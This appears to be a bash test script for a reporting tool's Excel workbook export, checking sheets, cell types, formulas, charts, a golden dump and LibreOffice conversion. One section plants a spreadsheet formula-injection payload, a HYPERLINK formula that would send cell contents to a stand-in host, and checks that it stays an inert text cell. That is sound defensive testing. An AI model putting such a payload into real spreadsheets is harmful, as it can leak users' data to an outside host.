#!/usr/bin/env bash
# Excel workbooks (phoihop-report(1), WORKBOOKS): read back by Debian's
# python3-openpyxl (sheets, cell types, values equal to the CSV's, number
# formats, set-up, formulas and their cached values, the chart in the zip),
# converted by LibreOffice Calc, compared with a golden dump, the same bytes
# in any time zone, record text inert, and refused where they make no sense.
source "$(dirname "$0")/lib.bash"

PY=/usr/bin/python3 # Debian's, which has python3-openpyxl
XD="$SOURCE_DIR/tests/cli/xlsx_dump.py"
dump() { "$PY" "$XD" dump "$1" >"$TMP/dump" 2>"$TMP/dump.err" || fail "openpyxl cannot read $1: $(cat "$TMP/dump.err")"; }
has() { grep -qF -- "$1" "$TMP/dump" || fail "the workbook lacks '$1'"; }
lacks() { grep -qF -- "$1" "$TMP/dump" && fail "the workbook has '$1'"; return 0; }
same_as_csv() { # FILE.xlsx SHEET FILE.csv
  "$PY" "$XD" compare "$1" "$2" "$3" >"$TMP/compare" 2>&1 || fail "$(cat "$TMP/compare")"
}

load_bentre
period=(--period 2018-2026)

# The summary: a workbook with the summary sheet and the chart (counts alone,
# like the CSV; the registers are their verbs' workbooks).
ok report summary "${period[@]}" --output "$TMP/all.xlsx"
[ -s "$TMP/stdout" ] && fail "a workbook written to a file printed to stdout"
[ -s "$TMP/stderr" ] && fail "a workbook talked on stderr"
[ "$(head -c 2 "$TMP/all.xlsx")" = "PK" ] || fail "not a zip container"
dump "$TMP/all.xlsx"
[ "$(grep '^== sheet' "$TMP/dump" | cut -d"'" -f2 | tr '\n' '|')" = "Summary|Progress|" ] ||
  fail "sheets: $(grep '^== sheet' "$TMP/dump")"
# Every table: the header frozen, an autofilter, A4 landscape one page wide,
# the header row on every page.
[ "$(grep -c 'frozen=A2 autofilter=A1:[A-Z]*[0-9]* orientation=landscape paper=9 fit_to_page=True fit_width=None fit_height=0 print_titles=\$1:\$1' "$TMP/dump")" = 1 ] ||
  fail "set-up: $(grep frozen "$TMP/dump")"
has "properties: title='Coordination report — 2018-2026' created=2026-11-26 00:00:00"
# Typed cells: dates as dates shown dd/mm/yyyy, counts as numbers,
# percentages as fractions shown as %, booleans as booleans.
has "A2 d datetime.datetime(2018, 1, 1, 0, 0) [dd/mm/yyyy]"
has "F2 n 5 [0]"
has "M2 n 1 [0.0%]"
# Totals: task counts as SUM, the completion rate as a formula over the
# totals, each with the report's figure cached; meetings, recipients and
# the average progress as numbers (a meeting of two agreements counts once).
has "D4 s 'Total' bold"
has "F4 f '=SUM(F2:F3)' -> 12 [0] bold"
has "M4 f '=ROUND(I4/(F4-J4),3)' -> 0.417 [0.0%] bold"
has "N4 n 0.417 [0.0%] bold"
has "O4 n 1 [0] bold"
# The chart: per agreement, over the summary sheet's rows.
has "xl/charts/chart1.xml: ['barChart'] refs=['Summary!\$D\$2:\$D\$3', 'Summary!\$M\$2:\$M\$3', 'Summary!\$D\$2:\$D\$3', 'Summary!\$N\$2:\$N\$3']"
has "xl/drawings/_rels/drawing1.xml.rels: ../charts/chart1.xml"
has "xl/worksheets/_rels/sheet2.xml.rels: ../drawings/drawing1.xml"

# The values are the CSV's, sheet by sheet.
ok report summary "${period[@]}" --format csv --output "$TMP/summary.csv"
same_as_csv "$TMP/all.xlsx" Summary "$TMP/summary.csv"
for view in tasks meetings awards attention; do
  ok report "$view" "${period[@]}" --format csv --output "$TMP/$view.csv"
  sheet="$(tr a-z A-Z <<<"${view:0:1}")${view:1}"
  # A register's own workbook: its one sheet, the same rows as its CSV.
  ok report "$view" "${period[@]}" --output "$TMP/$view.xlsx"
  same_as_csv "$TMP/$view.xlsx" "$sheet" "$TMP/$view.csv"
  "$PY" -c "import openpyxl,sys; sys.exit(openpyxl.load_workbook(sys.argv[1]).sheetnames != [sys.argv[2]])" \
    "$TMP/$view.xlsx" "$sheet" || fail "report $view: not one sheet $sheet"
  dump "$TMP/$view.xlsx"
  grep -q 'frozen=A2 autofilter=A1:[A-Z]*[0-9]* orientation=landscape paper=9 fit_to_page=True fit_width=None fit_height=0 print_titles=\$1:\$1' "$TMP/dump" ||
    fail "report $view: set-up: $(grep frozen "$TMP/dump")"
  if [ "$view" = tasks ]; then
    has "L2 n 1 [0%]" # a task's progress: 100 is 1 shown 100%
    has "M2 b False"  # a flag
  fi
done

# The golden dump of the Bến Tre workbook in Vietnamese, over time by year
# (regenerate with PHOIHOP_GOLDEN=write after a deliberate change).
ok report summary "${period[@]}" --each year --lang vi --output "$TMP/vi.xlsx"
dump "$TMP/vi.xlsx"
if [ "${PHOIHOP_GOLDEN:-}" = write ]; then
  cp "$TMP/dump" "$SOURCE_DIR/tests/golden/bentre-2018-2026.vi.xlsx.txt"
fi
diff -u "$SOURCE_DIR/tests/golden/bentre-2018-2026.vi.xlsx.txt" "$TMP/dump" >"$TMP/diff" ||
  fail "differs from tests/golden/bentre-2018-2026.vi.xlsx.txt: $(head -40 "$TMP/diff")"
has "== sheet 'Tổng hợp'"
has "== sheet 'Tiến độ' A1:C10"
has "xl/charts/chart1.xml: ['lineChart'] refs=[\"'Tiến độ'!\$A\$2:\$A\$10\", \"'Tiến độ'!\$B\$2:\$B\$10\""

# The same database, arguments and day give the same bytes, in any zone.
for tz in UTC Pacific/Kiritimati America/Adak; do
  EXTRA_ENV="TZ=$tz" ok report summary "${period[@]}" --each year --lang vi --output "$TMP/tz.xlsx"
  cmp -s "$TMP/vi.xlsx" "$TMP/tz.xlsx" || fail "TZ=$tz gave other bytes"
done

# Record text stays text: a formula payload is a string cell, never a formula.
ok task add --agreement BT-2022 "=HYPERLINK(\"http://x.example/\"&A1,\"ok\")" --lead "Tỉnh đoàn Bến Tre"
ok task add --agreement BT-2022 "@SUM(1)" --lead "Tỉnh đoàn Bến Tre"
id=$(tr -d '[:space:]' <"$TMP/stdout")
# A note longer than a cell holds: cut to 32,767 characters, the last an ellipsis.
ok task update "$id" --progress 10 --note "$("$PY" -c 'print("Đ" * 40000)')"
ok report tasks --period 2026 --output "$TMP/hostile.xlsx"
dump "$TMP/hostile.xlsx"
has "s '=HYPERLINK(\"http://x.example/\"&A1,\"ok\")'"
has "s '@SUM(1)'"
[ "$(grep -c '^   [A-Z]*[0-9]* f ' "$TMP/dump")" = 0 ] || fail "a register has a formula"
"$PY" - "$TMP/hostile.xlsx" <<'PY' || fail "a long note is not cut to 32,767 characters with an ellipsis"
import openpyxl, sys
notes = [c.value for c in openpyxl.load_workbook(sys.argv[1])["Tasks"]["U"] if c.value and c.value.startswith("ĐĐ")]
sys.exit(not (len(notes) == 1 and len(notes[0]) == 32767 and notes[0].endswith("…")))
PY

# The attention register in Vietnamese: its kinds in words, as the statuses.
ok report attention "${period[@]}" --lang vi --output "$TMP/attention-vi.xlsx"
dump "$TMP/attention-vi.xlsx"
has "s 'lâu không cập nhật'"
has "s 'chưa ghi nhận người ký'"
lacks "s 'task_stale'"
# A period whose agreements have no percentage: no empty chart, a sentence.
ok agreement add "Quy chế không có đầu việc" --code E-2030 --period 2030-2030 \
  --party "Tỉnh đoàn Vĩnh Long" --party "UBND tỉnh Vĩnh Long"
ok report summary --period 2030 --today 2030-06-30 --output "$TMP/empty.xlsx"
dump "$TMP/empty.xlsx"
has "Nothing to chart: no task counts towards a percentage."
lacks "xl/charts/chart1.xml"

# A recorded workbook: the register keeps its bytes.
ok report summary --period 2022 --record --number 7 --output "$TMP/rec.xlsx"
ok report sent show 7 --year 2026 --output "$TMP/kept.xlsx"
cmp -s "$TMP/rec.xlsx" "$TMP/kept.xlsx" || fail "the register does not keep the workbook's bytes"

# Lists and show: one sheet, typed by the column.
ok task list --format xlsx
cp "$TMP/stdout" "$TMP/tasks-list.xlsx"
dump "$TMP/tasks-list.xlsx"
has "== sheet 'List'"
has "[dd/mm/yyyy]"
has "[0%]"
ok task list --format csv
cp "$TMP/stdout" "$TMP/tasks-list.csv"
same_as_csv "$TMP/tasks-list.xlsx" List "$TMP/tasks-list.csv"
for noun in org agreement meeting award; do
  ok "$noun" list --format xlsx
  [ "$(head -c 2 "$TMP/stdout")" = "PK" ] || fail "$noun list --format xlsx is not a workbook"
done
ok agreement show BT-2022 --format xlsx
cp "$TMP/stdout" "$TMP/show.xlsx"
dump "$TMP/show.xlsx"
has "== sheet 'Record'"
has "B1 s 'value'"

# Refused: a workbook to a terminal, with --layout or --compare, --bom.
if command -v script >/dev/null; then
  script -qec "env -i PATH=/usr/bin:/bin PHOIHOP_DB=$DB $PHOIHOP report summary --format xlsx" /dev/null >"$TMP/tty" 2>&1
  grep -qF "a .xlsx is not for a terminal" "$TMP/tty" || fail "a report workbook went to a terminal: $(head -c 300 "$TMP/tty")"
  script -qec "env -i PATH=/usr/bin:/bin PHOIHOP_DB=$DB $PHOIHOP task list --format xlsx" /dev/null >"$TMP/tty" 2>&1
  grep -qF "a .xlsx is not for a terminal" "$TMP/tty" || fail "a list workbook went to a terminal: $(head -c 300 "$TMP/tty")"
fi
fails 2 report summary "${period[@]}" --layout columns --output "$TMP/n.xlsx"
err_has "--layout columns is for md, csv and json"
ok report summary "${period[@]}" --layout rows --output "$TMP/rows.xlsx" # the default goes with every format
unchanged_by 2 report summary "${period[@]}" --layout columns --format docx
fails 2 report summary "${period[@]}" --compare previous --format xlsx
err_has "--compare is for md, csv and json"
fails 2 report summary --format xlsx --bom
[ -e "$TMP/n.xlsx" ] && fail "a refused report wrote its file"

# libxlsxwriter (and its libcrypto) is loaded when a workbook is written, never linked.
ldd "$PHOIHOP" | grep -qiE "xlsxwriter|libcrypto" && fail "phoihop links libxlsxwriter"

# LibreOffice Calc opens the workbook and prints it: the Vietnamese headings
# and the totals are on the pages.
timeout 180 soffice -env:UserInstallation="file://$TMP/lo" --headless --norestore --convert-to pdf \
  --outdir "$TMP/pdf" "$TMP/vi.xlsx" >/dev/null 2>&1 || fail "LibreOffice could not convert vi.xlsx"
pdftotext -layout "$TMP/pdf/vi.pdf" "$TMP/vi.txt" 2>/dev/null || fail "no PDF from LibreOffice"
for text in "Tổng số đầu việc" "Tổng cộng" "BT-2022" "Tiến độ qua các kỳ"; do
  grep -qF "$text" "$TMP/vi.txt" || fail "the printed workbook lacks '$text'"
done
grep -qE "41[.,]7%" "$TMP/vi.txt" || fail "the printed workbook lacks the completion rate 41.7%"

finish
